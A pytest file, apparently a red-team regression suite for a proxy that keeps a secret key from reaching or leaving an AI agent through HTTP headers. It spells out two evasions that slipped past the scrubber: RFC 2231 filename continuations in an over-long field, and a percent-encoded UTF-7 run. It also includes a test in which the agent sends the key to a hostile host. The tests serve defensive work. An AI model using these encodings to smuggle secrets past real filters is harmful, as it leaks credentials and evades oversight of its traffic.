"""Red team 41 (2026-12-05): heads where the head check (first_hit) and field-by-field scrubbing
(scrub_field) disagreed, end to end. RFC 2231 continuations in a field over 8 KiB (no line break)
were not read at all by scrub_field, and by first_hit only beside another field: a response head
it flagged went out unchanged (nothing to replace field by field), and once the field's name was
remembered clean a request head carried the key out. An unended UTF-7 run, its ``+`` percent-
encoded, in a long field mostly not ASCII, was read by scrub_field (its binary views) and not by
first_hit. Now first_hit reads each field as a header (whatever its length) and with the views
scrub_field uses, and a head the check flags that field-by-field scrubbing would leave unchanged is
refused."""

from __future__ import annotations

import base64
import email.message
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import trustme

from proxy.core.scrub import _CLEAN, ScrubRefused, first_hit, scrub_field
from proxy.core.values import Finder
from tests.proxy.test_redteam import HOSTILE_NAME, hostile, hostile_ca  # noqa: F401 (fixtures)
from tests.proxy.test_redteam37 import PH, keyed_proxy
from tests.proxy.test_redteam39 import get, tunnel
from tests.proxy.test_redteam40 import head
from tests.support.hostile import HostileServer, Request, Wire
from tests.support.proxyproc import ProxyProcess

KEY = "rtREALa5c58c0990842086f631b5c68ebd9836e"
PAD = b'; x="' + b"a" * 8200 + b'"'  # the field over _FIELD_MAX (8 KiB), no LF, no FIELD_SEPARATOR


def continued(key: str, pad: bytes = PAD) -> bytes:
    """RFC 2231 continuations, 5 characters a piece (shorter than any run piece), in a long field."""
    pieces = [key[i : i + 5] for i in range(0, len(key), 5)]
    return ("attachment; " + "; ".join(f'filename*{i}="{p}"' for i, p in enumerate(pieces))).encode() + pad


def utf7_pct(key: str) -> bytes:
    """An unended UTF-7 run, its '+' percent-encoded, in a long field of bytes above 0x7F."""
    run = b"%2B" + base64.b64encode(key[3:].encode("utf-16-be")).rstrip(b"=")
    return b"\xff" * 9000 + key[:3].encode() + run + b"\xff"


def _finder() -> Finder:
    return Finder.for_values([("k", KEY, PH)], runs=True)


# -- in process -----------------------------------------------------------------------------------
def test_rt41_a_client_reads_the_long_continuation_whole() -> None:
    m = email.message.Message()
    m["Content-Disposition"] = continued(KEY).decode()
    assert m.get_filename() == KEY  # (email, as requests/aiohttp users read a download's name)


def test_rt41_the_head_check_reads_continuations_in_a_field_over_8k_alone() -> None:
    f = _finder()
    _CLEAN.clear()
    with pytest.raises(ScrubRefused):
        scrub_field(continued(KEY, b""), f, lambda _: None)  # short: refused field by field
    assert first_hit(f, [continued(KEY)]) is not None  # long, alone: the head check reads it


def test_rt41_the_head_check_reads_long_continuations_once_the_name_is_remembered() -> None:
    f = _finder()
    _CLEAN.clear()
    assert first_hit(f, [b"Content-Disposition", continued(KEY)]) is not None  # beside its name: seen
    assert first_hit(f, [b"Content-Disposition", b"inline"]) is None  # the name remembered clean
    assert first_hit(f, [b"Content-Disposition", continued(KEY)]) is not None


def test_rt41_the_head_check_finds_what_scrub_field_refuses_utf7_under_percent() -> None:
    f = _finder()
    _CLEAN.clear()
    with pytest.raises(ScrubRefused):
        scrub_field(utf7_pct(KEY), f, lambda _: None)  # _binary_views: UTF-7 read in the runs
    assert first_hit(f, [b"X-Part", utf7_pct(KEY)]) is not None


# -- end to end -----------------------------------------------------------------------------------
@pytest.fixture
def world(
    make_proxy: Callable[..., ProxyProcess],
    hostile: HostileServer,  # noqa: F811
    hostile_ca: tuple[trustme.CA, Path],  # noqa: F811
    tmp_path: Path,
) -> Iterator[tuple[ProxyProcess, Path]]:
    p, key = keyed_proxy(make_proxy, hostile_ca[1], tmp_path)

    @hostile.on("/rt41/cd")
    async def cd(req: Request, w: Wire) -> None:
        await w.send(head([b"Content-Disposition: " + continued(req.token)]))

    @hostile.on("/rt41/utf7")
    async def u7(req: Request, w: Wire) -> None:
        await w.send(head([b"X-Part: " + utf7_pct(req.token)]))

    @hostile.on("/rt41/utf7/103")
    async def u7i(req: Request, w: Wire) -> None:
        await w.send(b"HTTP/1.1 103 Early Hints\r\nX-Part: " + utf7_pct(req.token) + b"\r\n\r\n")
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

    yield p, key
    p.stop()


@pytest.mark.parametrize(
    "path,shape", [("/rt41/cd", continued), ("/rt41/utf7", utf7_pct), ("/rt41/utf7/103", utf7_pct)]
)
def test_rt41_a_flagged_head_never_reaches_the_agent(
    world: tuple[ProxyProcess, Path], path: str, shape: Callable[[str], bytes]
) -> None:
    p, key = world
    raw = get(p, path)
    field = shape(key.read_text())
    assert field not in raw, f"the agent received {field[:120]!r}... whole ({path})"
    assert raw.startswith(b"HTTP/1.1 502") and b"secret_value_inbound" in raw, raw[:300]  # refused
    if b"Content-Disposition: " in raw:
        value = raw.split(b"Content-Disposition: ", 1)[1].split(b"\r\n", 1)[0]
        m = email.message.Message()
        m["Content-Disposition"] = value.decode("latin-1")
        assert m.get_filename() != key.read_text()


def test_rt41_a_long_continuation_in_a_request_head_is_refused_after_the_name_was_seen(
    world: tuple[ProxyProcess, Path],
    hostile: HostileServer,  # noqa: F811
) -> None:
    """The agent holding the real value sends it toward the host in continuations: refused, also
    once a request carried Content-Disposition before (the name remembered clean)."""
    p, key = world
    real = key.read_text()
    seen: list[Request] = []

    @hostile.on("/rt41/req")
    async def req(r: Request, w: Wire) -> None:
        seen.append(r)
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

    def send(value: bytes) -> None:
        s = tunnel(p)
        s.sendall(f"POST /rt41/req HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\n".encode()
                  + b"Content-Disposition: " + value + b"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")  # fmt: skip
        while s.recv(65536):
            pass

    send(b"inline")  # the name remembered clean
    send(continued(real))
    assert not any(continued(real).decode("latin-1") == v for r in seen for _, v in r.headers), "the upstream got it"
